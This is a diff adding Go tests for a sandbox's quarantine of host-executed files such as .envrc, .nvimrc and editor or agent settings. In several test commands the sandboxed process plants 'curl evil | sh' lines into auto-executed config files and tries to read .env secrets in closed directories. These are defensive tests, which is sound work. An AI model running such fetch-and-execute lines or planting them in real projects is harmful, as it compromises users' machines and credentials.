@@ -25,6 +25,8 @@ import (
 	"testing"
 	"time"
 
+	"golang.org/x/sys/unix"
+
 	"warden.dev/warden/internal/audit"
 	"warden.dev/warden/internal/sandbox/sandboxtest"
 )
@@ -662,6 +664,171 @@ echo ok > a/ordinary
 		if b, err := os.ReadFile(filepath.Join(project, name)); err != nil || string(b) != want {
 			t.Errorf("control: %s was not written: %q, %v", name, b, err)
 		}
+	}
+}
+
+// TestAdversarialHostExecClosedDir plants host-executed files in
+// directories it then closes to their owner (mode 0111: the host's shell
+// still enters them, and direnv reads .envrc by name): one the run made,
+// one below it, and one of the project that existed at start. As uid
+// 65534 (TestAttacksAsUnprivilegedUser) the post-run check, running as
+// their owner, cannot list them as they are; it opens them to itself,
+// takes what was planted and gives them their mode back.
+func TestAdversarialHostExecClosedDir(t *testing.T) {
+	project := openProject(t)
+	if err := os.Mkdir(filepath.Join(project, "src"), 0o777); err != nil {
+		t.Fatal(err)
+	}
+	os.Chmod(filepath.Join(project, "src"), 0o777)
+	t.Cleanup(func() {
+		for _, d := range []string{"d", "d/e", "src"} {
+			os.Chmod(filepath.Join(project, d), 0o777)
+		}
+	})
+	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(
+		`mkdir -p d/e && echo 'curl evil | sh' > d/.envrc && echo '!curl evil | sh' > d/e/.nvimrc && chmod 111 d/e d && ` +
+			`echo 'curl evil | sh' > src/.envrc && echo ok > src/ordinary && chmod 111 src`)})
+	if o.err != nil {
+		t.Fatal(o.err)
+	}
+	for _, p := range []string{"d/.envrc", "d/e/.nvimrc", "src/.envrc"} {
+		wantQuarantined(t, o.res, filepath.Join(project, p))
+		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
+			t.Errorf("%s left on the host", p)
+		}
+	}
+	for _, d := range []string{"d", "d/e", "src"} {
+		if fi, err := os.Lstat(filepath.Join(project, d)); err != nil || fi.Mode().Perm() != 0o111 {
+			t.Errorf("%s does not have the mode the run gave it back: %v, %v", d, fi.Mode(), err)
+		}
+	}
+	// Control: what is not host-executed stays.
+	if b, err := os.ReadFile(filepath.Join(project, "src/ordinary")); err != nil || string(b) != "ok\n" {
+		t.Errorf("control: src/ordinary: %q, %v", b, err)
+	}
+}
+
+// TestAdversarialClosedDirAtStart: directories of the project closed to
+// their owner before the run (mode 0111: searchable, not listable; mode
+// 0000) hold a secret and an .envrc. The command runs as their owner, so
+// it could read c/.env by name, rewrite c/.envrc, or chmod z and read it;
+// as uid 65534 (TestAttacksAsUnprivilegedUser) the project walk cannot
+// list them either, so it masks them whole.
+func TestAdversarialClosedDirAtStart(t *testing.T) {
+	project := openProject(t)
+	const secret = "warden-test-secret"
+	writeFiles(t, project, map[string]string{"c/.env": secret + " closed", "c/.envrc": "echo hi\n", "z/.env": secret + " shut", "z/notes": "notes"})
+	// The post-run check counts what it did not see at start, and whose
+	// ctime is not before the run's, as the run's own.
+	passCoarse(t, project+"/c/.envrc", project+"/c/.env", project+"/z/.env", project+"/z/notes")
+	for d, mode := range map[string]os.FileMode{"c": 0o111, "z": 0} {
+		if err := os.Chmod(filepath.Join(project, d), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Cleanup(func() {
+		os.Chmod(filepath.Join(project, "c"), 0o777)
+		os.Chmod(filepath.Join(project, "z"), 0o777)
+	})
+	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Argv: sh(
+		`cat c/.env; echo 'curl evil | sh' >> c/.envrc; chmod 755 z; cat z/.env; echo ok > ordinary`)})
+	if o.err != nil {
+		t.Fatal(o.err)
+	}
+	if strings.Contains(o.stdout+o.stderr, secret) {
+		t.Errorf("a secret in a closed directory was read:\n%s", o.stdout)
+	}
+	os.Chmod(filepath.Join(project, "c"), 0o777)
+	if b, err := os.ReadFile(filepath.Join(project, "c/.envrc")); err != nil || string(b) != "echo hi\n" {
+		t.Errorf("c/.envrc changed on the host: %q, %v", b, err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(project, "ordinary")); string(b) != "ok\n" {
+		t.Errorf("control: an ordinary file was not written: %q", b)
+	}
+}
+
+// passCoarse waits until the coarse clock a run starts from (coarseNow)
+// is past the ctime of each of paths: on kernels with multigrain
+// timestamps a ctime stamped just before can be later than it.
+func passCoarse(t *testing.T, paths ...string) {
+	t.Helper()
+	var latest unix.Timespec
+	for _, p := range paths {
+		var st unix.Stat_t
+		if err := unix.Lstat(p, &st); err != nil {
+			t.Fatal(err)
+		}
+		if st.Ctim.Sec > latest.Sec || st.Ctim.Sec == latest.Sec && st.Ctim.Nsec > latest.Nsec {
+			latest = st.Ctim
+		}
+	}
+	for {
+		now := coarseNow()
+		if now.Sec > latest.Sec || now.Sec == latest.Sec && now.Nsec > latest.Nsec {
+			return
+		}
+		time.Sleep(time.Millisecond)
+	}
+}
+
+// TestAdversarialQuarantineCopyBounded: a move into the quarantine from
+// another filesystem is a copy, and a sparse file of a gigabyte or a
+// directory of thousands of files cost the command nothing. What passes
+// the run's budget is removed, not copied: the host's disk does not pay
+// for it, and nothing is half kept. A small planted file is still kept.
+func TestAdversarialQuarantineCopyBounded(t *testing.T) {
+	// The project on /dev/shm (a tmpfs every user may write), the
+	// quarantine on /var/tmp: two filesystems.
+	var st unix.Statfs_t
+	if err := unix.Statfs("/dev/shm", &st); err != nil || st.Type != unix.TMPFS_MAGIC {
+		t.Skipf("requires /dev/shm as a tmpfs, for a project on another filesystem than /var/tmp (statfs: type %#x, %v)", st.Type, err)
+	}
+	project, err := os.MkdirTemp("/dev/shm", "warden-sandbox-test-")
+	if err != nil {
+		t.Skipf("requires a writable /dev/shm: %v", err)
+	}
+	t.Cleanup(func() { os.RemoveAll(project) })
+	os.Chmod(project, 0o777)
+	q := filepath.Join(varTempDir(t), "q")
+	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: q, Argv: sh(
+		`mkdir .vscode .idea .claude && truncate -s 1G .vscode/big && ` +
+			`i=0; while [ $i -lt 10050 ]; do : > .idea/f$i; i=$((i+1)); done; ` +
+			`echo '{"hooks":{}}' > .claude/settings.json; echo ok > ordinary`)})
+	if o.err != nil {
+		t.Fatal(o.err)
+	}
+	for _, p := range []string{".vscode", ".idea", ".claude"} {
+		wantQuarantined(t, o.res, filepath.Join(project, p))
+		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
+			t.Errorf("%s left on the host", p)
+		}
+	}
+	for _, qd := range o.res.Quarantined {
+		switch filepath.Base(qd.Path) {
+		case ".vscode", ".idea":
+			if qd.MovedTo != "" || !strings.Contains(qd.Error, "not moved to the quarantine") {
+				t.Errorf("%s was kept, or not said to be removed: %+v", qd.Path, qd)
+			}
+		case ".claude":
+			if b, err := os.ReadFile(filepath.Join(qd.MovedTo, "settings.json")); err != nil || !strings.Contains(string(b), "hooks") {
+				t.Errorf("the small planted file was not kept: %q, %v", b, err)
+			}
+		}
+	}
+	var size int64
+	var entries int
+	filepath.Walk(q, func(_ string, fi os.FileInfo, err error) error {
+		if err == nil {
+			size += fi.Size()
+			entries++
+		}
+		return nil
+	})
+	if size > quarantineCopyBytes || entries > quarantineCopyEntries {
+		t.Errorf("the quarantine holds %d bytes in %d entries, past the budget of %d and %d", size, entries, quarantineCopyBytes, quarantineCopyEntries)
+	}
+	if b, _ := os.ReadFile(filepath.Join(project, "ordinary")); string(b) != "ok\n" {
+		t.Errorf("control: an ordinary file was not written: %q", b)
 	}
 }
 
